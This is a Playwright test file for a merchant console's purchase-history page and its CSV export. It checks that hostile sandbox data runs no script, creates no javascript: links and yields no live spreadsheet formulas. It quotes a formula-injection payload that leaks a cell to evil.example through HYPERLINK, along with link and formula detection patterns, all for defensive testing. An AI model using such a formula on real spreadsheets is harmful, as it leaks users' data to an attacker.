// Hostile and extreme data (sandbox `--data hostile`, switched on through its control API):
// the page stays alive and says what it left out, nothing from the data runs as script or
// becomes a javascript: link, no downloaded CSV holds a live formula, and nothing widens
// the page at 320 px.
import { readFileSync } from 'node:fs';
import type { APIRequestContext, Page } from '@playwright/test';
import { test, expect, openApp, type ConsoleRecord } from './fixtures';
import { requestCard, requestExport } from './clover';

const AUTH = 'Basic ' + Buffer.from('demo-merchant:demo-api-key').toString('base64');
const DAY = 86_400_000;
const MAX_PRICE = 1e15;

type Entry = Record<string, unknown> | unknown;

async function hostileOn(request: APIRequestContext) {
  const res = await request.post('/__sandbox/data', { data: { mode: 'hostile' } });
  expect(await res.json()).toEqual({ mode: 'hostile' });
}

/** Raw purchase-history entries for `from..=to` (UTC days), straight from the sandbox. */
async function rawEntries(request: APIRequestContext, from: string, to: string): Promise<Entry[]> {
  const res = await request.get(`/laterpay/eu/merchant/purchase-history?from_date=${from}&to_date=${to}`, {
    headers: { Authorization: AUTH },
  });
  expect(res.status()).toBe(200);
  return (await res.json()).data as Entry[];
}

/** The price the app reads (integers, integral numbers, numeric strings), else null. */
function priceOf(e: Entry): number | null {
  const p = (e as Record<string, unknown>)?.price;
  if (typeof p === 'number' && Number.isInteger(p)) return p;
  if (typeof p === 'string' && /^\s*-?\d+\s*$/.test(p)) return Number(p);
  return null;
}

function timeOf(e: Entry): number | null {
  const d = (e as Record<string, unknown>)?.purchase_date;
  if (typeof d !== 'string' || !/^\d{4}-\d{2}-\d{2}/.test(d)) return null;
  const y = Number(d.slice(0, 4));
  if (y === 9999) return Infinity; // past Date's range in JS; the app keeps it as received
  const t = Date.parse(d);
  return Number.isNaN(t) ? null : t;
}

const dayMs = (ymd: string) => Date.parse(`${ymd}T00:00:00Z`);
const ymd = (ms: number) => new Date(ms).toISOString().slice(0, 10);

/** What the figures must show for the span `from..=to` and its previous period. */
async function expectations(request: APIRequestContext, from: string, to: string) {
  const days = (dayMs(to) - dayMs(from)) / DAY + 1;
  const prevFrom = ymd(dayMs(from) - days * DAY);
  const entries = await rawEntries(request, prevFrom, to);
  const inSpan = (t: number) => t >= dayMs(from) && t < dayMs(to) + DAY;
  const inPrev = (t: number) => t >= dayMs(prevFrom) && t < dayMs(from);
  let revenue = 0, counted = 0, priceOut = 0, prevPriceOut = 0, dateOut = 0, unreadable = 0;
  for (const e of entries) {
    const p = priceOf(e), t = timeOf(e);
    if (p === null || t === null) { unreadable++; continue; }
    if (t === Infinity) { dateOut++; continue; }
    if (Math.abs(p) > MAX_PRICE) {
      if (inSpan(t)) priceOut++;
      else if (inPrev(t)) prevPriceOut++;
      continue;
    }
    if (inSpan(t)) { revenue += p; counted++; }
  }
  return { revenue, counted, priceOut, prevPriceOut, dateOut, unreadable };
}

/** Installs traps before any page script: every payload in the data sets `window.__pwned`
 *  or calls `alert`. */
async function trapScripts(page: Page): Promise<string[]> {
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  await page.addInitScript(() => {
    Object.defineProperty(window, '__pwned', {
      configurable: false,
      get: () => (window as unknown as { __pwnedHits?: number }).__pwnedHits ?? 0,
      set: () => { const w = window as unknown as { __pwnedHits?: number }; w.__pwnedHits = (w.__pwnedHits ?? 0) + 1; },
    });
  });
  return dialogs;
}

async function expectNoScriptRan(page: Page, dialogs: string[]) {
  expect(await page.evaluate(() => (window as unknown as { __pwnedHits?: number }).__pwnedHits ?? 0)).toBe(0);
  expect(dialogs).toEqual([]);
  // No link or navigation target from the data that is not http(s).
  await expect(page.locator('a[href^="javascript:" i], a[href^="data:" i], a[href*="script:" i]')).toHaveCount(0);
  const hrefs = await page.locator('.mc-history-results a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
  for (const h of hrefs) expect(h).toMatch(/^https?:\/\//i);
  // Markup in titles stays text: no element was made from it.
  await expect(page.locator('.mc-history-results img, .mc-history-results script')).toHaveCount(0);
}

/** CSV records; quoted fields may hold the delimiter, quotes, CR and LF. */
function parseCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [], field = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else field += c;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  return rows;
}

/** Cells a spreadsheet would run: `= + - @` first (also after spaces or full-width), or a
 *  tab/CR/LF first. Plain decimal numbers in the named number columns are numbers. */
function liveFormulas(rows: string[][], numberColumns: string[], semicolon: boolean): string[] {
  const header = rows[0];
  const numeric = new Set(numberColumns.map((c) => header.indexOf(c)));
  const number = semicolon ? /^-?\d+,\d{2}$/ : /^-?\d+\.\d{2}$/;
  const live: string[] = [];
  for (const row of rows.slice(1)) {
    row.forEach((cell, i) => {
      if (/^[\t\r\n]/.test(cell) || /^ *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) {
        if (!(numeric.has(i) && number.test(cell))) live.push(`${header[i]}: ${cell.slice(0, 60)}`);
      }
    });
  }
  return live;
}

async function openHistory(page: Page) {
  await openApp(page);
  await page.getByRole('tab', { name: 'Purchase history' }).click();
  await expect(page.getByLabel('API key', { exact: true })).toHaveValue('demo-api-key');
  await page.getByLabel('Region').selectOption({ label: 'Europe sandbox (EUR)' });
  await page.getByLabel('Time zone').selectOption('UTC');
}

async function fetchRange(page: Page, preset: string): Promise<[string, string]> {
  await page.getByLabel('Time range').selectOption({ label: preset });
  await page.getByRole('button', { name: 'Fetch purchases' }).click();
  const heading = page.getByRole('heading', { name: /^Purchases \d{4}-\d{2}-\d{2} to \d{4}-\d{2}-\d{2}$/ });
  await expect(heading).toBeVisible({ timeout: 30_000 });
  const m = (await heading.textContent())!.match(/(\d{4}-\d{2}-\d{2}) to (\d{4}-\d{2}-\d{2})/)!;
  return [m[1], m[2]];
}

function unexpectedErrors(record: ConsoleRecord): string[] {
  return record.errors.filter((e) => !/Failed to load resource/.test(e));
}

test('hostile purchase history: the page stays alive, says what it left out, runs nothing and writes no live formula', async ({ page, request, consoleRecord }) => {
  test.setTimeout(90_000);
  await hostileOn(request);
  const dialogs = await trapScripts(page);
  await openHistory(page);
  const [from, to] = await fetchRange(page, 'Last 30 days (incl. today)');
  const want = await expectations(request, from, to);
  expect(want.priceOut).toBeGreaterThan(30);
  expect(want.dateOut).toBeGreaterThan(0);

  // The notice names each reason with its count, for the span and the previous period.
  const notice = page.locator('.mc-excluded');
  await expect(notice).toContainText(`${want.priceOut} records skipped: price out of range`);
  expect(want.prevPriceOut).toBeGreaterThan(30);
  await expect(notice).toContainText(`Previous period: ${want.prevPriceOut} records skipped: price out of range`);
  await expect(notice).toContainText(`${want.dateOut} record${want.dateOut === 1 ? '' : 's'} skipped: date out of range`);
  await expect(page.getByText(/records? could not be read and (was|were) left out/)).toBeVisible();

  // The figures are those of the records that can be shown honestly.
  const revenueCard = page.getByRole('list', { name: 'Summary' }).getByRole('listitem')
    .filter({ has: page.getByRole('heading', { name: 'Revenue', exact: true }) });
  await expect(revenueCard.locator('[data-value]')).toHaveAttribute('data-value', String(want.revenue));
  const purchasesCard = page.getByRole('list', { name: 'Summary' }).getByRole('listitem')
    .filter({ has: page.getByRole('heading', { name: 'Purchases', exact: true }) });
  await expect(purchasesCard.locator('[data-value]')).toHaveAttribute('data-value', String(want.counted));

  // The chart is drawn (bars on both sides of zero: refunds) and every bar has a label.
  const bars = page.locator('.mc-bar');
  await expect(bars).toHaveCount(30);
  await expect(page.locator('.mc-zero-line')).toHaveCount(1);
  await bars.first().focus();
  await expect(page.getByRole('tooltip')).toBeVisible();
  await page.keyboard.press('End');
  await expect(page.getByRole('tooltip')).toContainText(to);

  // Left-out records stay in the table as received: the huge price, the far date, the
  // formula title as plain text without a link (its URL was javascript:).
  const table = page.getByRole('region', { name: 'Purchases', exact: true });
  await table.getByLabel('Filter purchases').fill('HYPERLINK');
  const row = table.locator('tbody tr').first();
  await expect(row).toContainText('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
  await expect(row.locator('a')).toHaveCount(0);
  // Those of the previous period too: the table is where they can be seen at all.
  await table.getByLabel('Filter purchases').fill('Far future');
  await expect(table.locator('tbody tr')).toHaveCount(want.dateOut);
  await expect(table.locator('tbody tr').first()).toContainText('9999-12-31 23:59');
  await table.getByLabel('Filter purchases').fill('');
  await page.getByRole('button', { name: /^Price/ }).click();
  await page.getByRole('button', { name: /^Price/ }).click();
  await expect(table.locator('tbody tr').first()).toContainText(/90,000,000,000,000,000\.00|90\.000\.000\.000\.000\.000,00/);

  // Both CSV flavours: every record, none with a live formula.
  for (const semicolon of [false, true]) {
    await table.getByLabel('Semicolons and decimal commas').setChecked(semicolon);
    await table.getByLabel('Excel (UTF-8 BOM)').setChecked(semicolon);
    const [download] = await Promise.all([page.waitForEvent('download'), table.getByRole('button', { name: 'Download CSV' }).click()]);
    const bytes = readFileSync((await download.path())!);
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(semicolon);
    const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text, semicolon ? ';' : ',');
    expect(rows[0][4]).toBe('price');
    const span = await rawEntries(request, from, to);
    const readable = span.filter((e) => priceOf(e) !== null && timeOf(e) !== null && timeOf(e) !== Infinity);
    expect(rows.length - 1).toBeGreaterThanOrEqual(readable.length);
    expect(liveFormulas(rows, ['price'], semicolon)).toEqual([]);
    const titles = rows.map((r) => r[6]);
    expect(titles).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(rows.map((r) => r[4])).toContain(semicolon ? '90000000000000000,00' : '90000000000000000.00');
    expect(rows.map((r) => r[4])).toContain(semicolon ? '-4,99' : '-4.99');
    expect(rows.map((r) => r[0])).toContain('9999-12-31T23:59:59+00:00');
  }

  // Still alive and responsive: switch the bars to weeks.
  await page.getByLabel('Period per bar').selectOption('week');
  await expect(bars.first()).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Merchant Console', level: 1 })).toBeVisible();
  await expectNoScriptRan(page, dialogs);
  expect(unexpectedErrors(consoleRecord)).toEqual([]);
});

/** Elements of the page sticking out past the viewport's right edge (those inside a
 *  scroll or clipping container of their own excepted), and the document's own overflow. */
async function overflow(page: Page) {
  return page.evaluate(() => {
    const width = document.documentElement.clientWidth;
    const wide: string[] = [];
    const clipped = (el: Element) => {
      for (let a = el.parentElement; a && !a.classList.contains('mc-app'); a = a.parentElement) {
        if (getComputedStyle(a).overflowX !== 'visible') return true;
      }
      return false;
    };
    for (const el of Array.from(document.querySelectorAll('.mc-app *'))) {
      if (el.closest('.mc-chart-defs') || clipped(el)) continue;
      const r = el.getBoundingClientRect();
      if (r.width > 0 && r.right > width + 1) wide.push(`${el.tagName.toLowerCase()}.${(el as HTMLElement).className}: ${Math.round(r.right)}`);
    }
    return { scroll: document.documentElement.scrollWidth, width, wide: wide.slice(0, 10) };
  });
}

test('nothing overflows at 320 px, with hostile data and the large revenue of demo data', async ({ page, request, consoleRecord }) => {
  test.setTimeout(90_000);
  await page.setViewportSize({ width: 320, height: 800 });
  await openHistory(page);
  await fetchRange(page, 'Last 90 days (incl. today)');
  for (const name of ['Show as table']) await page.getByRole('button', { name }).first().click();
  let o = await overflow(page);
  expect(o.wide).toEqual([]);
  expect(o.scroll).toBeLessThanOrEqual(o.width);
  // Every card's figure fits its box (it stuck out of it at 390 px: "€27,660.20").
  for (const width of [390, 360, 320]) {
    await page.setViewportSize({ width, height: 800 });
    const cramped = await page.locator('.mc-stat, .mc-stat *').evaluateAll((els) =>
      els.filter((e) => e.clientWidth > 0 && e.scrollWidth > e.clientWidth).map((e) => `${width}: ${e.textContent}`));
    expect(cramped).toEqual([]);
  }

  await hostileOn(request);
  await fetchRange(page, 'Last 30 days (incl. today)');
  await expect(page.locator('.mc-excluded')).toBeVisible();
  await page.getByRole('button', { name: 'Show as table' }).first().click();
  await page.locator('details.mc-repeat > summary').click();
  o = await overflow(page);
  expect(o.wide).toEqual([]);
  expect(o.scroll).toBeLessThanOrEqual(o.width);
  expect(unexpectedErrors(consoleRecord)).toEqual([]);
});

test('the merged Clover export of hostile files has no live formula in either CSV style', async ({ page, request, consoleRecord }) => {
  test.setTimeout(120_000);
  await hostileOn(request);
  const dialogs = await trapScripts(page);
  await openApp(page);
  await requestExport(page, 2);
  const card = requestCard(page);
  await expect(card.getByRole('progressbar', { name: 'Overall progress' })).toHaveAttribute('aria-valuenow', '100', { timeout: 90_000 });
  await card.getByLabel('Format').selectOption({ label: 'CSV' });
  for (const semicolon of [false, true]) {
    await card.getByLabel('Semicolons and decimal commas').setChecked(semicolon);
    await card.getByLabel('Excel (UTF-8 BOM)').setChecked(semicolon);
    const [download] = await Promise.all([page.waitForEvent('download'), card.getByRole('button', { name: 'Download all' }).click()]);
    const bytes = readFileSync((await download.path())!);
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(semicolon);
    const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text, semicolon ? ';' : ',');
    expect(rows[0][0]).toBe('id');
    expect(rows.length).toBeGreaterThan(100);
    // The hostile strings are there, neutralised; amounts are numbers or neutralised text.
    expect(rows.some((r) => r[rows[0].indexOf('title')].startsWith('\'=HYPERLINK('))).toBe(true);
    expect(rows.some((r) => r[rows[0].indexOf('total')] === '\'=1+1')).toBe(true);
    expect(liveFormulas(rows, ['total'], semicolon)).toEqual([]);
  }
  expect(await page.evaluate(() => (window as unknown as { __pwnedHits?: number }).__pwnedHits ?? 0)).toBe(0);
  expect(dialogs).toEqual([]);
  expect(unexpectedErrors(consoleRecord)).toEqual([]);
});
